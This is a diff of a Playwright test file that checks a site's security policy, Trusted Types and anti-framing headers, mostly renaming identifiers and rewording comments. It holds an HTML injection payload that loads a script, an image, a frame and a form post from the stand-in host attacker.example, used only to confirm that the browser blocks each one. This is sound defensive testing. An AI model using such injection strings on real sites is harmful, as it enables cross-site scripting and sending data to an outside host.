@@ -7,27 +7,27 @@ import { listenOn } from '../../scripts/listen.ts';
 import { pagesToTry, pathTo } from './pages.ts';
 import { expect, inEachLanguage, languages, on, test, wake } from './site.ts';
 
-// The security policy as the browser enforces it: that of each document, and beside it the short one of the header. An
-// attacker who can write into a page tries what the policy is there to refuse.
+// The security policies as the browser enforces them: that of each document, and the short one of the header. An attacker
+// who can write into a page tries what the policies must refuse.
 
-/** What the browser refused. */
-interface Refusal {
+/** A violation that the browser reported. */
+interface PolicyViolation {
   readonly directive: string;
-  /** Whether it was the header’s policy, or the document’s own. */
+  /** Whether the header’s policy or the document’s own refused it. */
   readonly by: 'header' | 'document';
   readonly blocked: string;
 }
 
 declare global {
   interface Window {
-    refusals?: Refusal[];
+    refusals?: PolicyViolation[];
     /** Set by a script that should never run. */
     attacked?: boolean;
   }
 }
 
-/** Notes what the browser refuses, from the first byte of each page on. */
-const listen = (page: Page) =>
+/** Records what the browser refuses, from the start of each page. */
+const recordRefusals = (page: Page) =>
   page.addInitScript((header) => {
     window.refusals = [];
     addEventListener('securitypolicyviolation', ({ effectiveDirective, originalPolicy, blockedURI }) => {
@@ -37,24 +37,24 @@ const listen = (page: Page) =>
 
 const refusals = (page: Page) => page.evaluate(() => window.refusals ?? []);
 
-/** Each directive that refused something, and whose policy it is of: `img-src document`. */
-const refusedBy = async (page: Page) => [...new Set((await refusals(page)).map(({ directive, by }) => `${directive} ${by}`))].toSorted();
+/** Each directive that refused something, with its policy: `img-src document`. */
+const refusedDirectives = async (page: Page) => [...new Set((await refusals(page)).map(({ directive, by }) => `${directive} ${by}`))].toSorted();
 
-const ELSEWHERE = 'https://attacker.example/';
+const ATTACKER = 'https://attacker.example/';
 
-/** What somebody who can write into a document would write there. */
+/** The HTML that an attacker would write into a document. */
 const INJECTED = `
   <script>attacked = true</script>
-  <script src="${ELSEWHERE}script.js"></script>
+  <script src="${ATTACKER}script.js"></script>
   <style>body { outline: 9px solid red }</style>
   <p id="attack" style="outline: 9px solid red" onclick="attacked = true">Attack</p>
-  <img src="${ELSEWHERE}picture.png" alt="">
-  <iframe src="${ELSEWHERE}frame" title="Attack"></iframe>
-  <object data="${ELSEWHERE}object"></object>
-  <base href="${ELSEWHERE}">
-  <form id="send-away" action="${ELSEWHERE}post" method="post"></form>`;
+  <img src="${ATTACKER}picture.png" alt="">
+  <iframe src="${ATTACKER}frame" title="Attack"></iframe>
+  <object data="${ATTACKER}object"></object>
+  <base href="${ATTACKER}">
+  <form id="send-away" action="${ATTACKER}post" method="post"></form>`;
 
-/** What refuses it: a form and a base are refused by both policies, frames of any kind by the document's, and so on. */
+/** The directives that refuse it. Both policies refuse a form, a base and an object; only the document's refuses the rest. */
 const REFUSED = [
   'base-uri document',
   'base-uri header',
@@ -70,8 +70,8 @@ const REFUSED = [
   'style-src-elem document',
 ];
 
-/** Whether what was injected did anything. */
-const harm = (page: Page) =>
+/** Whether the injected HTML had an effect. */
+const effectsOfAttack = (page: Page) =>
   page.evaluate(() => ({
     attacked: window.attacked ?? false,
     outlined: [document.body, document.getElementById('attack')].some((element) => element && getComputedStyle(element).outlineWidth === '9px'),
@@ -81,8 +81,8 @@ const harm = (page: Page) =>
 
 inEachLanguage(({ locale }) => {
   for (const { path } of firstOfEach(pagesToTry(locale), 'family')) {
-    test(`${path}: what is injected is refused, and the page wakes without a refusal and asks nobody else`, async ({ page, baseURL, pageErrors }) => {
-      await listen(page);
+    test(`${path}: injected HTML is refused; the page itself wakes without a refusal or a request to another site`, async ({ page, baseURL, pageErrors }) => {
+      await recordRefusals(page);
       const elsewhere: string[] = [];
       page.on('request', (request) => {
         const { origin, protocol } = new URL(request.url());
@@ -94,11 +94,11 @@ inEachLanguage(({ locale }) => {
       await wake(page);
       await on(page, locale).servicesButton.click();
       await expect(on(page, locale).servicesPanel).toBeVisible();
-      // Nobody else hears of a visit.
+      // A visit makes no request to another site.
       expect([await refusals(page), pageErrors, elsewhere]).toEqual([[], [], []]);
 
       const asked: string[] = [];
-      await page.route(`${ELSEWHERE}**`, async (route) => {
+      await page.route(`${ATTACKER}**`, async (route) => {
         asked.push(route.request().url());
         await route.fulfill({ body: '' });
       });
@@ -109,15 +109,15 @@ inEachLanguage(({ locale }) => {
       await page.goto(path);
       await page.locator('#attack').evaluate((element: HTMLElement) => element.click());
       await page.locator('#send-away').evaluate((form: HTMLFormElement) => form.submit());
-      await expect.poll(() => refusedBy(page)).toEqual(REFUSED);
-      expect(await harm(page)).toEqual({ attacked: false, outlined: false, at: baseURL + path, base: baseURL + path });
+      await expect.poll(() => refusedDirectives(page)).toEqual(REFUSED);
+      expect(await effectsOfAttack(page)).toEqual({ attacked: false, outlined: false, at: baseURL + path, base: baseURL + path });
       expect(asked).toEqual([]);
       expect(pageErrors.splice(0).length).toBeGreaterThan(0);
     });
   }
 
-  test('a text becomes HTML or code on no page, where the browser has Trusted Types', async ({ page, pageErrors }) => {
-    await listen(page);
+  test('Trusted Types refuse to turn a string into HTML or code', async ({ page, pageErrors }) => {
+    await recordRefusals(page);
     await page.goto(pathTo('blog', locale));
     await wake(page);
     const outcomes = await page.evaluate(() => {
@@ -139,12 +139,12 @@ inEachLanguage(({ locale }) => {
       });
     });
     expect(outcomes).toEqual(outcomes.map(() => 'TypeError'));
-    expect(await refusedBy(page)).toEqual(['require-trusted-types-for document', 'trusted-types document']);
+    expect(await refusedDirectives(page)).toEqual(['require-trusted-types-for document', 'trusted-types document']);
     pageErrors.splice(0);
   });
 });
 
-test('documents that the server answers carry their own policy: not found, refused and filled forms, thanks', async ({ request }) => {
+test('documents that the server makes have their own policy: not found, refused and filled forms, thanks', async ({ request }) => {
   for (const { prefix, quote, contact } of languages) {
     const answers = [
       await request.get(`${prefix}/nowhere/at/all`),
@@ -161,7 +161,7 @@ test('documents that the server answers carry their own policy: not found, refus
   }
 });
 
-test('another site shows no page of this one in a frame', async ({ page, baseURL, pageErrors }) => {
+test('another site cannot show a page of this one in a frame', async ({ page, baseURL, pageErrors }) => {
   const other = createServer((_, response) => response.writeHead(200, { 'Content-Type': 'text/html' }).end(`<iframe src="${baseURL}/about"></iframe>`));
   const origin = await listenOn(other);
   try {
